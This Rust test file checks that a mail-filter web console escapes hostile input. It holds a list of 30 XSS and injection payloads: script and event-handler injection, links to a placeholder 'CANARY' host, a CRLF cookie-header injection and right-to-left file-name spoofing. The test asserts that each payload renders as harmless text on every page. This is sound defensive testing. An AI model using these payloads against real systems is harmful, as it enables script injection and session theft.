//! Decisions on mail that would do harm to its reader's browser: they are shown as text and do nothing.

use std::collections::BTreeSet;

use kith::decision::Reason;
use kith::journal::Entry;

use super::{Console, entry};

/// Elements that the pages are made of.
const ELEMENTS: [&str; 48] = [
    "a", "bdi", "body", "br", "button", "caption", "circle", "code", "dd", "div", "dl", "dt", "fieldset", "form", "h1",
    "h2", "head", "header", "html", "iframe", "input", "label", "legend", "li", "line", "link", "main", "meta", "nav",
    "option", "p", "pre", "rect", "section", "select", "small", "span", "strong", "svg", "table", "tbody", "td", "th",
    "thead", "title", "tr", "ul", "!doctype",
];

/// What stands in mail, each with the canary's address in it: `CANARY`.
pub const PAYLOADS: [&str; 30] = [
    "<script>window.harm=1</script>",
    "<script src=http://CANARY/a.js></script>",
    "<img src=x onerror=window.harm=1>",
    "<img src=http://CANARY/b.png>",
    "<svg onload=window.harm=1>",
    "<svg><script>window.harm=1</script></svg>",
    "</title><script>window.harm=1</script>",
    "</pre><script>window.harm=1</script>",
    "\"><script>window.harm=1</script>",
    "' autofocus onfocus='window.harm=1",
    "\" autofocus onfocus=\"window.harm=1",
    "<style>body{background:url(http://CANARY/c)}</style>",
    "<link rel=stylesheet href=http://CANARY/d.css>",
    "<meta http-equiv=refresh content=\"0;url=http://CANARY/e\">",
    "<base href=http://CANARY/>",
    "<form action=http://CANARY/f><button autofocus>x</button></form>",
    "<iframe src=\"data:text/html,<script>top.harm=1</script>\"></iframe>",
    "<iframe srcdoc=\"<script>top.harm=1</script>\"></iframe>",
    "<object data=http://CANARY/g></object><embed src=http://CANARY/h>",
    "<a href=javascript:window.harm=1 id=harm>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harm=1>",
    "<details open ontoggle=window.harm=1>",
    "<!--><script>window.harm=1</script>-->",
    "{{7*7}}${window.harm=1}<%= 1 %>",
    "&lt;script&gt;window.harm=1&lt;/script&gt;&#x3c;script>window.harm=1",
    "pay\u{202e}gpj.exe\u{2066} in\u{200b}voice\u{feff}",
    "x\r\nSet-Cookie: kith_session=stolen\r\n\r\n<script>window.harm=1</script>",
    "\u{0}\u{1b}]0;title\u{7}<\u{0}script>window.harm=1</script>",
    "+ADw-script+AD4-window.harm=1+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}window.harm=1 <video><source onerror=window.harm=1>",
];

/// A decision for each payload, which stands wherever a stranger may write.
pub fn entries(canary: &str) -> Vec<Entry> {
    let hostile = |(number, payload): (usize, &&str)| {
        let payload = payload.replace("CANARY", canary);
        let mut entry = entry(number as i64 * 10);
        entry.subject = Some(payload.clone());
        entry.author = Some(format!("\"{payload}\"@evil.example"));
        entry.message_id = Some(payload.clone());
        entry.queue_id = Some(payload.clone());
        let envelope = &mut entry.envelope;
        (envelope.sender, envelope.helo) = (Some(payload.clone()), Some(payload.clone()));
        (envelope.client_name, envelope.login) = (Some(payload.clone()), Some(payload.clone()));
        envelope.recipients = vec![payload.clone(), "own@kith.test".into()];
        entry.reasons.push(Reason { name: payload.clone(), because: payload.clone(), contribution: 0.0 });
        entry.reasons[0].because.clone_from(&payload);
        entry.gaps = vec![kith::mail::Gap::new(kith::mail::Missing::Spf, payload.clone())];
        (entry.auth.source, entry.auth.spf) = (payload.clone(), payload.clone());
        entry.auth.dkim = vec![payload.clone()];
        entry.digests.model = payload;
        entry
    };
    PAYLOADS.iter().enumerate().map(hostile).collect()
}

/// Every element of a page is one of its own, and no attribute acts.
#[track_caller]
pub fn check_page(path: &str, body: &str) {
    let mut found = BTreeSet::new();
    for rest in body.split('<').skip(1) {
        let tag = &rest[..rest.find('>').expect("every < of the page opens an element")];
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default().to_lowercase();
        let attributes = tag.split('"').step_by(2).collect::<String>().to_lowercase();
        assert!(!attributes.contains(" on") && !attributes.contains("style"), "{path}: <{tag}>");
        for value in tag.split('"').skip(1).step_by(2) {
            let leads_away = value.contains("://") || value.starts_with("//") || value.starts_with("javascript:");
            assert!(!leads_away || tag.contains(" value=\"") || tag.contains("<option"), "{path}: <{tag}>");
        }
        found.insert(name);
    }
    let strange: Vec<_> = found.iter().filter(|name| !ELEMENTS.contains(&name.as_str())).collect();
    assert!(strange.is_empty(), "{path}: {strange:?}");
    let steers =
        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
    let hidden = |c: char| c.is_control() && c != '\n' || steers(c);
    // What one typed into a field stands there again as it was typed.
    let shown: String =
        body.split(" value=\"").map(|part| part.split_once('"').map_or(part, |(_, rest)| rest)).collect();
    assert!(!shown.contains(hidden), "{path}: what cannot be seen is written out");
}

#[test]
fn hostile_mail_is_text_on_every_page() {
    let entries = entries("127.0.0.1:1");
    let console = Console::start("", &["operator", "administrator"], &entries);
    let mut operator = console.person("operator");
    let list = operator.get("/decisions");
    assert_eq!((list.status, list.body.matches("<tr>").count()), (200, 31));
    check_page("/decisions", &list.body);
    for (entry, payload) in entries.iter().zip(PAYLOADS) {
        let path = format!("/decisions/{}", entry.id);
        let page = operator.get(&path);
        assert_eq!((page.status, page.header("Set-Cookie").len()), (200, 0), "{path}");
        check_page(&path, &page.body);
        let search = format!("/decisions?text={0}&sender={0}", super::visitor::encoded(payload));
        check_page(&search, &operator.get(&search).body);
        let relation = format!("/relations?key={}", super::visitor::encoded(payload));
        check_page(&relation, &operator.get(&relation).body);
    }
    let (id, token) = (entries[0].id, operator.get("/decisions").token());
    let fields = [("token", token.as_str()), ("label", "attack"), ("category", ""), ("note", PAYLOADS[26])];
    assert_eq!(operator.post(&format!("/decisions/{id}/label"), &fields).status, 303);
    check_page("labelled", &operator.get(&format!("/decisions/{id}")).body);
    assert_eq!(console.stranger().sign_in(PAYLOADS[0], PAYLOADS[1]).status, 401);
    let activity = console.person("administrator").get("/activity").body;
    check_page("/activity", &activity);
    assert!(activity.contains("somebody unknown"), "what may be a password is not written down");
}
